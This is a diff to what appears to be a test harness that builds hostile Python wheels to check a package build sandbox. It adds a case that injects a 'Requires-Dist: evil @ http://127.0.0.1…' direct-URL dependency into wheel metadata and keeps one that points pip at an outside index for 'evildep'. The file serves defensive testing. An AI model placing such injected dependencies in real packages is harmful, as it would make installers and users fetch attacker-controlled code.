@@ -39,11 +39,13 @@ def attempt(name, action):
         return False
 
 
-def make_wheel(directory, files=None):
+def make_wheel(directory, files=None, metadata=""):
     dist = NAME.replace("-", "_")
     info = f"{{dist}}-{{VERSION}}.dist-info"
     members = dict(files or {{f"{{dist}}/__init__.py": "VALUE = 1\n"}})
-    members[f"{{info}}/METADATA"] = f"Metadata-Version: 2.1\nName: {{NAME}}\nVersion: {{VERSION}}\n"
+    members[f"{{info}}/METADATA"] = (
+        f"Metadata-Version: 2.1\nName: {{NAME}}\nVersion: {{VERSION}}\n{{metadata}}"
+    )
     members[f"{{info}}/WHEEL"] = (
         "Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
     )
@@ -157,6 +159,14 @@ NETDEP_SETUP = (
 REQUIRES_OPTION = """
 if phase == "requires":
     REQUIRES = ["--index-url=http://%s:%d/simple" % (outside_host, outside_port), "evildep"]
+"""
+
+# ... and the wheel's own requirements: a direct reference would make the trusted side's
+# installer (the test step's) and every user's pip fetch or read it.
+URL_DEPENDENCY = """
+if phase == "build":
+    url = "http://127.0.0.1:%d/evil-1.0-py3-none-any.whl" % loopback_port
+    WHEEL = make_wheel(wheel_directory, metadata=f"Requires-Dist: evil @ {url}\\n")
 """
 
 # Class 2: links where the host reads (the wheel) or cleans (every writable folder).
